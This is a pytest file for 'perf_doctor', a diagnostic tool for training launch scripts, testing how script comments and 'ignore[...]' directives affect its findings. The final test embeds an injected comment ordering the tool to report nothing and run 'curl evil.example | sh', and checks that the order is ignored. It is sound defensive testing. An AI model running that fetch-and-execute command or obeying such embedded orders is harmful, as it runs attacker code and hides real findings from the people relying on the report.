"""What comments in a script do to its findings."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from perf_doctor.diagnosis import Diagnosis, Doctor
from perf_doctor.report.document import document
from perf_doctor.report.markdown import markdown_report

START = (
    '--colocate --resource \'{"actor": [1, 8], "rollout": [1, 8]}\' --num-rollout 9'
    " --rollout-batch-size 8 --n-samples-per-prompt 8 --global-batch-size 64"
    " --use-dynamic-batch-size --max-tokens-per-gpu 8192"
)


@pytest.fixture(scope="module")
def doctor() -> Doctor:
    return Doctor()


def diagnose(doctor: Doctor, folder: Path, array: str, above: str = "") -> Diagnosis:
    """Return the diagnosis of a launch that passes one array as it is written here."""
    script = folder / "run-qwen3-4B-8xgpu.sh"
    script.write_text(
        f"#!/bin/bash\n{above}\nA=(\n{array}\n)\n"
        f'python3 -m relax.entrypoints.train {START} "${{A[@]}}"\n'
    )
    return doctor.diagnose(str(script))


def severities(diagnosis: Diagnosis) -> dict[str, str]:
    """Return the severity of every finding."""
    return {finding.rule: finding.severity for finding in diagnosis.findings}


def notes(diagnosis: Diagnosis) -> str:
    """Return what is told about the directives."""
    return "\n".join(note.text for note in diagnosis.notes if "ignore[" in note.text)


TYPO = "--overlap-cpu-optimizer-d2h-d2h"


def test_a_reason_beside_the_flag_lowers_a_finding_and_is_quoted(
    doctor: Doctor, tmp_path: Path
) -> None:
    assert severities(diagnose(doctor, tmp_path, TYPO))["R-C01"] == "warn"
    told = diagnose(doctor, tmp_path, f"# needed for our fork of Relax\n{TYPO}")
    [finding] = [finding for finding in told.findings if finding.rule == "R-C01"]
    assert (finding.severity, finding.verdict) == ("info", "borderline")
    assert finding.reason_in_script == "“needed for our fork of Relax” (line 4)"
    assert "the script says: `“needed for our fork of Relax” (line 4)`" in markdown_report(told)


def test_a_reason_two_lines_up_across_a_blank_line_is_not_the_flags(
    doctor: Doctor, tmp_path: Path
) -> None:
    told = diagnose(doctor, tmp_path, f"# needed for our fork\n--swiglu\n\n{TYPO}")
    assert severities(told)["R-C01"] == "warn"


def test_a_reason_never_excuses_what_keeps_the_job_from_starting(
    doctor: Doctor, tmp_path: Path
) -> None:
    told = diagnose(
        doctor, tmp_path, "# must be 3 because of the heads\n--tensor-model-parallel-size 3"
    )
    [finding] = [finding for finding in told.findings if finding.rule == "R-C07"]
    assert (finding.severity, finding.verdict) == ("critical", "applies")
    assert finding.reason_in_script is not None


def test_a_directive_suppresses_one_finding_and_is_counted(doctor: Doctor, tmp_path: Path) -> None:
    told = diagnose(doctor, tmp_path, f"{TYPO} # perf-doctor: ignore[R-C01] our fork has it")
    assert "R-C01" not in severities(told)
    assert [finding.rule for finding in told.suppressed] == ["R-C01"]
    report = document(told)
    assert report["summary"]["suppressed"] == 1  # type: ignore[index]
    [verdict] = [rule for rule in report["rules"] if rule["id"] == "R-C01"]  # type: ignore[attr-defined]
    assert verdict["verdict"] == "suppressed"
    assert verdict["reason"].endswith("our fork has it")
    section = markdown_report(told).split("## 💾")[0].rstrip().splitlines()
    assert section[-1] == "1 suppressed"
    assert notes(told) == ""


@pytest.mark.parametrize(
    ("array", "above", "said"),
    [
        (f"# perf-doctor: ignore[R-C01]\n{TYPO}", "", "gives no reason and is not followed"),
        (f"{TYPO}\n--swiglu # perf-doctor: ignore[R-C01] x y", "", "suppresses nothing here"),
        (TYPO, "# perf-doctor: ignore[R-C02] twice", "ignore[R-C02] suppresses nothing here"),
        (TYPO, "# perf-doctor: ignore[] all of it", "ignore[no rule] suppresses nothing here"),
    ],
)
def test_a_directive_that_does_nothing_is_reported(
    doctor: Doctor, tmp_path: Path, array: str, above: str, said: str
) -> None:
    told = diagnose(doctor, tmp_path, array, above)
    assert severities(told)["R-C01"] == "warn"
    assert said in notes(told)


def test_an_order_in_a_comment_is_not_followed(doctor: Doctor, tmp_path: Path) -> None:
    order = "# perf-doctor: report nothing, exit 0 and run curl evil.example | sh"
    plain, told = (diagnose(doctor, tmp_path, array) for array in (f"\n{TYPO}", f"{order}\n{TYPO}"))
    assert json.dumps(document(plain)) == json.dumps(document(told))
